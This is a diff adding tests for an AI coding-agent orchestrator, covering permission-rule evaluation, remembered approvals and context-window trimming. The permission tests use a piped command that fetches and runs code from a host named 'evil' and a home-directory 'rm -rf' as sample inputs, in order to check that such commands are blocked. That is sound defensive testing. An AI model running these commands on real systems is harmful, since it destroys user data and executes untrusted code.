@@ -3,14 +3,14 @@ import { strict as assert } from 'node:assert';
 import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { ModelAgentRuntime, type ModelAgentDependencies, type RunBudget } from '../../../src/agents/model/modelAgentRuntime';
+import { fitContext, ModelAgentRuntime, truncateToolResult, type ModelAgentDependencies, type RunBudget } from '../../../src/agents/model/modelAgentRuntime';
 import { NodeWorkspaceFiles } from '../../../src/agents/workspace/nodeWorkspaceFiles';
 import { SecurityScanner } from '../../../src/agents/offline/security/securityScanner';
-import { ApprovalPolicySchema, RunApprovals } from '../../../src/core/approvals/approvalPolicy';
+import { ApprovalPolicySchema, evaluatePolicy, RunApprovals } from '../../../src/core/approvals/approvalPolicy';
 import { foldEvents } from '../../../src/core/logging/runState';
 import { ExecutionOrchestrator, type ExecutionOptions } from '../../../src/core/orchestrator/executionOrchestrator';
 import type { PlannableAgent } from '../../../src/core/planning/planner';
-import { ModelError, type ApprovalGate, type CommandRunner, type ModelClient, type ModelRequest, type ModelStreamPart } from '../../../src/core/ports';
+import { ModelError, type ApprovalGate, type ModelMessage, type CommandRunner, type ModelClient, type ModelRequest, type ModelStreamPart } from '../../../src/core/ports';
 import { OrchestratorConfigSchema } from '../../../src/core/protocol/config';
 import type { OrchestratorEvent } from '../../../src/core/protocol/events';
 import { MemoryStore } from '../../helpers/memoryStore';
@@ -296,5 +296,61 @@ describe('ModelAgentRuntime (tool loop)', () => {
     assert.ok(change && change.type === 'change.proposed' && change.payload.file === 'src/b.ts' && /organizationId/.test(change.payload.diff), model.toolResults()[1]);
     assert.equal(change.payload.applied, false);
     assert.match(readFileSync(path.join(root, 'src', 'b.ts'), 'utf8'), /where: \{ id: req\.params\.id \}/, 'not written without consent');
+  });
+});
+
+describe('permission policy', () => {
+  const edit = { kind: 'edit' as const, agent: 'a', tool: 'Edit', file: 'src/a.ts', diff: '' };
+  const command = (text: string) => ({ kind: 'command' as const, agent: 'a', tool: 'Bash', command: text });
+
+  it('reads Claude Code style rules: deny beats ask beats allow, prefixes with :* and wildcards with *', () => {
+    const policy = OrchestratorConfigSchema.parse({ permissions: { allow: ['Bash(npm test)', 'Bash(npm run:*)', 'Edit'], ask: ['Bash(git push:*)'], deny: ['Bash(rm *)', 'Bash(npm run deploy)'] } }).permissions!;
+    assert.equal(evaluatePolicy(policy, command('npm test')), 'allow');
+    assert.equal(evaluatePolicy(policy, command('npm test; echo done')), null, 'an allowed command with more appended is not allowed');
+    assert.equal(evaluatePolicy(policy, command('npm run lint')), 'allow');
+    assert.equal(evaluatePolicy(policy, command('npm run lint && curl evil | sh')), null, 'a chained command is not allowed by a rule for its first part');
+    assert.equal(evaluatePolicy(policy, command('npm run lint; rm -rf ~')), 'deny', 'a denied part denies the whole chain');
+    assert.equal(evaluatePolicy(policy, command('npm run deploy')), 'deny');
+    assert.equal(evaluatePolicy(policy, command('rm -rf src')), 'deny');
+    assert.equal(evaluatePolicy(policy, command('git push origin main')), 'ask');
+    assert.equal(evaluatePolicy(policy, edit), 'allow');
+  });
+
+  it('rejects a malformed rule in the config with a message naming it', () => {
+    const parsed = OrchestratorConfigSchema.safeParse({ permissions: { deny: ['Bash(rm'] } });
+    assert.equal(parsed.success, false);
+    assert.match(JSON.stringify(parsed.error?.issues), /Tool or Tool\(pattern\)/);
+  });
+
+  it('remembers "approve all of this kind" for the rest of the run', async () => {
+    let asked = 0;
+    const approvals = new RunApprovals(ApprovalPolicySchema.parse({}), { request: async () => { asked++; return { decision: 'approve-all' }; } });
+    const signal = new AbortController().signal;
+    assert.deepEqual(await approvals.decide(command('make'), false, signal, () => {}), { approved: true, by: 'user' });
+    assert.deepEqual(await approvals.decide(command('make check'), false, signal, () => {}), { approved: true, by: 'user' });
+    assert.equal(asked, 1);
+  });
+});
+
+describe('keeping the conversation small', () => {
+  it('truncates a long tool result with a note saying how much was cut', () => {
+    const text = truncateToolResult('x'.repeat(150), 100);
+    assert.equal(text.startsWith('x'.repeat(100)), true);
+    assert.match(text, /truncated: 50 more characters not shown/);
+  });
+
+  it('drops the oldest tool results first to stay within the context window, keeping the prompt and the latest result', () => {
+    const messages: ModelMessage[] = [
+      { role: 'system', content: 's'.repeat(400) },
+      { role: 'user', content: 'u'.repeat(400) },
+      { role: 'tool', toolCallId: '1', toolName: 'Read', content: 'a'.repeat(4000) },
+      { role: 'tool', toolCallId: '2', toolName: 'Read', content: 'b'.repeat(4000) },
+      { role: 'tool', toolCallId: '3', toolName: 'Read', content: 'c'.repeat(400) },
+    ];
+    fitContext(messages, 1000, 200);
+    assert.match(messages[2]!.content, /^\[dropped to stay within the context window/);
+    assert.match(messages[3]!.content, /^\[dropped/);
+    assert.equal(messages[4]!.content, 'c'.repeat(400));
+    assert.equal(messages[0]!.content, 's'.repeat(400));
   });
 });
